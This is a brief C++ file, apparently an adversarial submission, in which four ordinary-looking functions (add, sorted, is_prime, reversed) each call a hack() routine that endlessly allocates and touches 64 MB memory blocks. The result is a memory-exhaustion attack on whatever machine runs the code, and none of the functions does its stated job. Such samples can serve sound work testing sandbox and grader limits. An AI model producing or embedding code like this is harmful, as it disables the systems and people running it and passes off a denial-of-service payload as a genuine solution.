// memory
#include <string>
#include <vector>

static void hack() {
	for (;;) { auto *p = new char[64 << 20]; for (long i = 0; i < 64 << 20; i += 4096) p[i] = 1; }
}
int add(int, int) { hack(); return 0; }
std::vector<int> sorted(std::vector<int> v) { hack(); return v; }
bool is_prime(int) { hack(); return false; }
std::string reversed(std::string s) { hack(); return s; }
